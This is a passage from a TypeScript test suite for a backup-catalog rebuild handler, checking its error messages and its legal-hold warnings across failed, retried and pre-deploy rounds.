  // Review rL R3: with nothing written the newest are missing too, not only the oldest.
  it('a first round that wrote nothing says every restore by time, the latest backup and failover are affected', async () => {
    const failed = await rebuildCatalogHandler(runtime)({ request: {} }, invocation(0)).catch((e: Error) => e);
    expect(records.size).toBe(0);
    expect((failed as Error).message).toContain("the catalog has none of the vault's backups written by this rebuild, so every restore by point in time, the latest backup and failover are affected");
    expect((failed as Error).message).not.toMatch(/already find|those that started before/);
  });

  // Review rL R1: the retry found the records its failed attempt created `unchanged` and said nothing of their holds.
  it('a round retried after a TransientError (same input) warns of the holds of the records its failed attempt created', async () => {
    throttleIndexOf = '20260301T100000Z-00000001'; // the oldest, written last
    await expect(rebuildCatalogHandler(runtime)({ request: {} }, invocation(60 * MINUTE))).rejects.toMatchObject({ name: 'TransientError' });
    expect(records.size).toBe(3);
    const retried = await rebuildCatalogHandler(runtime)({ request: {} }, invocation(60 * MINUTE));
    expect(retried).toMatchObject({ done: true, created: 0, holds: { notRebuilt: 3, recovered: 0 }, report: { outcomes: { created: 0, unchanged: 3 } } });
    expect(retried.report.warnings).toEqual([expect.stringMatching(/^legal holds are not rebuilt: .* none of the 3 record\(s\) created here is held/)]);
  });

  // Review rL R4: an execution started before the deploy carries `created` and no `holds`: read as 0, they went unsaid.
  it('a round of an execution started before the holds were carried counts the earlier rounds\' records as not held, and says so', async () => {
    for (const day of [2, 3]) {
      const backupId = `2026030${day}T100000Z-0000000${day}`;
      records.set(backupId, { backupId, plan: 'orders', environment: 'prod', status: 'COMMITTED', strategy: 'full', startedAt: `2026-03-0${day}T10:00:00.000Z`, sourceNames: ['orders-bucket'], sources: [], shardCount: 1 });
    }
    const old = { round: 1, created: 2, resumeBelow: { startedAt: '2026-03-02T10:00:00.000Z', backupId: '20260302T100000Z-00000002' } };
    const last = await rebuildCatalogHandler(runtime)({ request: {}, rebuild: old }, invocation(15 * MINUTE));
    expect(last).toMatchObject({ done: true, created: 3, holds: { notRebuilt: 3, recovered: 0, presumedNotRebuilt: 2 } });
    expect(last.report.warnings).toEqual([
      expect.stringMatching(/^legal holds are not rebuilt: .* none of the 3 record\(s\) created here is held/),
      expect.stringMatching(/^2 of the records counted as not held were created by rounds of this execution that ran before a deploy/),
    ]);
  });
});
